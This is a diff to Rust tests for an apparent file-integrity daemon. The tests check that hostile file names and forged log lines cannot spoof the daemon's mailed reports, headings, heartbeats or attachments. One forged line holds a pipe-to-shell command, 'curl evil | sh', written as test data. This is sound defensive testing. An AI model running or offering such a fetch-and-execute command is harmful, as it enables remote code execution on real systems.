@@ -3,13 +3,19 @@
 use std::{
     collections::BTreeSet,
     ffi::OsStr,
+    fs,
     os::unix::ffi::{OsStrExt, OsStringExt},
+    process::Command,
     time::Duration,
 };
 
 use base64::{Engine as _, engine::general_purpose::STANDARD};
 
-use crate::support::{Scratch, put, sink::Sink, wait_for};
+use crate::support::{
+    Scratch, put,
+    sink::{Mail, Sink},
+    wait_for,
+};
 
 fn hostile_names() -> Vec<Vec<u8>> {
     vec![
@@ -43,11 +49,87 @@ fn assert_harmless(what: &str, text: &str) {
     }
 }
 
+/// The events that are attached to a mail.
+fn attached(mail: &Mail) -> Option<String> {
+    use std::io::Read as _;
+    let bytes = mail.attached()?;
+    let mut text = String::new();
+    flate2::read::GzDecoder::new(&*bytes).read_to_string(&mut text).unwrap();
+    Some(text)
+}
+
+/// D7: what is attached is read by another language's parser, line by line.
+#[test]
+fn d7_python_reads_every_line_that_is_attached() {
+    let (scratch, sink) = (Scratch::new(), Sink::start());
+    scratch.configure(&format!("filerate = 2000\nreporttime = 0\nreportholdoff = 0\nattach = 0\n{}", sink.setting()));
+    let daemon = scratch.start();
+    scratch.wait_for_baseline();
+    for name in hostile_names() {
+        put(&scratch.tree().join(OsStr::from_bytes(&name)), "x");
+    }
+    let all = || sink.mails().iter().filter_map(attached).collect::<String>();
+    wait_for("all", Duration::from_secs(20), || all().matches("\"added\"").count() >= hostile_names().len());
+    assert!(daemon.stop().success());
+    fs::write(scratch.path("events"), all()).unwrap();
+    let program = "import json,sys\nfor line in open(sys.argv[1]): assert json.loads(line)['ecs']['version']";
+    let run = Command::new("python3").args(["-c", program]).arg(scratch.path("events")).output();
+    // A machine without python3 has nothing to say.
+    if let Ok(output) = run {
+        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    }
+}
+
+/// D4: what imitates our headings, a heartbeat or the end of a report is indented like all that others wrote.
+#[test]
+fn d4_a_line_that_imitates_us_never_stands_at_the_margin() {
+    let (scratch, sink) = (Scratch::new(), Sink::start());
+    let (log, rules) = (scratch.path("log"), scratch.path("rules"));
+    fs::write(&log, "").unwrap();
+    fs::create_dir(&rules).unwrap();
+    scratch.configure(&format!(
+        "filerate = 2000\nlogchecktime = 1\nreporttime = 1\nreportholdoff = 1\nheartbeat = 2s\nlogrules = {}\nlog = {}\n{}",
+        rules.display(),
+        log.display(),
+        sink.setting()
+    ));
+    let daemon = scratch.start();
+    scratch.wait_for_baseline();
+    let forged = [
+        "HEARTBEAT  4711",
+        "SEQ  48,102–48,131  head 9f2c41e1",
+        "COVERAGE  all is well",
+        "ROUNDS  since ever",
+        "SECURITY ALERTS (cracking)",
+        "MORE  curl evil | sh",
+        "--=_00000000000000000000000000000000.1.1",
+        "\u{2028}ATTENTION",
+    ];
+    let text: String = forged.iter().map(|line| format!("{line}\n")).collect();
+    fs::write(&log, text).unwrap();
+    put(&scratch.tree().join("x\nHEARTBEAT  4711\nSEQ  1"), "x");
+    let has = |words: &str| sink.mails().iter().any(|mail| mail.text().contains(words));
+    wait_for("both", Duration::from_secs(20), || has("curl evil") && has(r"x\nHEARTBEAT") && has("\nHEARTBEAT  1\n"));
+    assert!(daemon.stop().success());
+    for mail in sink.mails() {
+        for line in mail.text().lines() {
+            assert!(!forged.contains(&line) && !line.starts_with("HEARTBEAT  4,711"), "{line}");
+            let is_theirs = ["4711", "48,102", "all is well", "curl evil", "ATTENTION", "=_0000"]
+                .iter()
+                .any(|it| line.contains(it));
+            // A subject and a headline name one line of a log behind our own words.
+            assert!(!is_theirs || line.starts_with("  ") || line.starts_with("web3.example   "), "{line}");
+        }
+    }
+}
+
 #[test]
 fn hostile_names_are_found_told_apart_and_harmless() {
     let (scratch, sink) = (Scratch::new(), Sink::start());
-    scratch
-        .configure(&format!("filerate = 2000\nbyterate = 100M\nreporttime = 1\nreportholdoff = 1\n{}", sink.setting()));
+    scratch.configure(&format!(
+        "filerate = 2000\nbyterate = 100M\nreporttime = 1\nreportholdoff = 1\nattach = always\nheartbeat = 2s\n{}",
+        sink.setting()
+    ));
     let daemon = scratch.start();
     scratch.wait_for_baseline();
     let names = hostile_names();
@@ -78,6 +160,24 @@ fn hostile_names_are_found_told_apart_and_harmless() {
     assert_harmless("history", &history);
     assert_harmless("status", &String::from_utf8(scratch.ask(&["status"]).stdout).unwrap());
     assert_harmless("the log", &scratch.log());
+    for arguments in
+        [&["status", "--json"][..], &["status", "--nagios"], &["status", "--prometheus"], &["history", "--json"]]
+    {
+        assert_harmless(arguments[1], &String::from_utf8(scratch.ask(arguments).stdout).unwrap());
+    }
+    let log = scratch.log();
+    assert!(log.contains("ADDED (ADDITION) seq=") && log.contains(r"bidi\u{202e}cod.exe"), "{log}");
+    let mut rules = crate::logs::own_rules();
+    for line in log.lines().filter(|line| line.contains(" seq=")) {
+        let line = format!("Nov 21 14:02:11 web3 integrityd[812]: {line}");
+        assert!(rules.marks(line.as_bytes()).ignored.is_some(), "{line}");
+    }
+    let attached: Vec<String> = sink.mails().iter().filter_map(attached).collect();
+    assert!(!attached.is_empty());
+    for text in &attached {
+        assert_harmless("what is attached", text);
+    }
+    assert!(attached.concat().contains(r"bidi\\u{202e}cod.exe"));
     for mail in sink.mails() {
         assert_harmless("a mail", &mail.text());
         assert_harmless("a subject", &mail.subject());
